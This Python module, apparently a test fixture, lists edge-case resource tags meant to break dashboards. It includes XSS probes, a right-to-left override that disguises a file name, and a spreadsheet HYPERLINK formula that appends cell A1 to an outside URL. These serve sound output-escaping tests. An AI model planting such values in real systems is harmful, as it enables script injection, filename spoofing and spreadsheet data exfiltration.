"""Names and tags that break dashboards."""

from __future__ import annotations

ODD_TAGS: list[dict[str, str]] = [
    {"Name": "<script>alert('orders')</script>", "Note": '<img src=x onerror="alert(1)"> & </td></tr>'},
    {"Name": 'Zoë\'s "test" box', "Owner": "zoë@example.com", "cost centre:ü": "4711 / Süd"},
    {"Name": "🚀 launchpad 🛰️", "Environment": "söndbox"},
    {"Name": "חיפוש-ראשי", "Note": "بحث رئيسي \u202eexe.drow", "Environment": "staging"},
    {"Name": '=HYPERLINK("https://example.com/?"&A1,"open")', "Note": "+1 -1 @SUM(A1)"},
    {"Name": "long-" + "x" * 120 + "-" + "長い名前" * 20, "Note": "a" * 256},
    {"Name": "  spaces  and\ttab ", "Environment": ""},
    {"name": "lower-case key", "env": "prod", "Empty": ""},
]
